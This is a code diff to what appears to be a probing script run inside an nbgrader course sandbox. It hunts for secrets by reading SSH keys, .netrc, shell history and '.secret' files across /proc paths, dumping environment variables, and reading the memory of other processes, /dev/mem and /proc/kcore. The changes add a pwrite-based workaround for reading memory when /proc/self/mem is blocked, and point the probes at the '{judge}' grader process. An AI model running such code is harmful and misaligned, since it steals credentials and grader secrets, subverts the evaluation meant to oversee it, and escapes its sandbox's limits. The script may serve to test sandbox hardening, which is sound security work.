@@ -18,7 +18,7 @@ places = (
     "course/source/part3_einsum/part3_einsum.ipynb", "course/nbgrader_config.py", ".secret", ".bash_history", ".ssh/id_rsa", ".netrc",
 )
 roots = ["{home}", "{outside}", os.path.expanduser("~"), "/root", os.getcwd(), "..", "../..", "../../..", "../../../.."]
-roots += [f"/proc/{pid}/{link}" for pid in ("self", "1", os.getppid(), {pid}) for link in ("root", "cwd", "root{home}")]
+roots += [f"/proc/{pid}/{link}" for pid in ("self", "1", os.getppid(), {judge}) for link in ("root", "cwd", "root{home}")]
 roots += [f"/proc/self/fd/{n}{up}" for n in range(64) for up in ("", "/..", "/../..")]
 for root in roots:
     for place in places:
@@ -169,18 +169,29 @@ def einsum_mv(mat, vec):
         "the writable memory of its own process: what the warm process held, every forked child can read",
         TELL,
         """
+import gc
+def spans():
+    # By the kernel's list; without it, the neighbourhoods of all objects and the heap, tried by letting the kernel read them.
+    try:
+        with open("/proc/self/maps") as maps:
+            for line in maps:
+                span, mode, *rest = line.split()
+                if mode.startswith("rw"):
+                    yield tuple(int(part, 16) for part in span.split("-"))
+    except OSError:
+        libc.sbrk.restype = ctypes.c_void_p
+        heap = libc.sbrk(ctypes.c_long(0)) >> 20
+        known = {id(thing) >> 20 for thing in gc.get_objects()} | set(range(heap - 64, heap + 1)) | {id(text) >> 20 for text in sys.intern.__doc__.split()}
+        for number in sorted({near for number in known for near in (number - 1, number, number + 1)}):
+            yield number << 20, (number + 1) << 20
+
 def search():
-    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
-        for line in maps:
-            span, mode, *rest = line.split()
-            start, end = (int(part, 16) for part in span.split("-"))
-            if not mode.startswith("rw") or end - start > 256 << 20:
-                continue
-            try:
-                memory.seek(start)
-                sniff(memory.read(end - start))
-            except (OSError, ValueError, OverflowError):
-                pass
+    place = os.open("memory", os.O_CREAT | os.O_RDWR, 0o600)
+    for start, end in spans():
+        for at in range(start, end, 1 << 20):
+            if libc.pwrite(place, ctypes.c_void_p(at), ctypes.c_size_t(min(1 << 20, end - at)), ctypes.c_long(0)) > 0:
+                sniff(os.pread(place, 1 << 20, 0))
+    os.close(place)
 attempt("", search)
 for n in range(40):
     sniff(np.empty(1 << 20, np.uint8).tobytes())
@@ -197,7 +208,7 @@ def einsum_mv(mat, vec):
         """
 for name, value in os.environ.items():
     sniff(f"{name}={value}".encode())
-for pid in ["self", "thread-self", "1", str(os.getppid()), "{pid}"] + [name for name in (attempt("", lambda: os.listdir("/proc")) or []) if name.isdigit()]:
+for pid in ["self", "thread-self", "1", str(os.getppid()), "{judge}"] + [name for name in (attempt("", lambda: os.listdir("/proc")) or []) if name.isdigit()]:
     for name in ("environ", "cmdline", "stat", "maps", "mountinfo", "cwd/.secret", "root/{home}/.secret", "task/1/environ"):
         look(f"/proc/{pid}/{name}")
 environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
@@ -223,7 +234,7 @@ def memory_of(pid):
             if mode.startswith("rw") and end - start < 64 << 20:
                 memory.seek(start)
                 sniff(memory.read(end - start))
-for pid in {"1", str(os.getppid()), "{pid}"} - {str(os.getpid())}:
+for pid in {"1", str(os.getppid()), "{judge}"} - {str(os.getpid())}:
     attempt("memory of another process", lambda: memory_of(pid))
 look("/dev/mem")
 look("/proc/kcore")
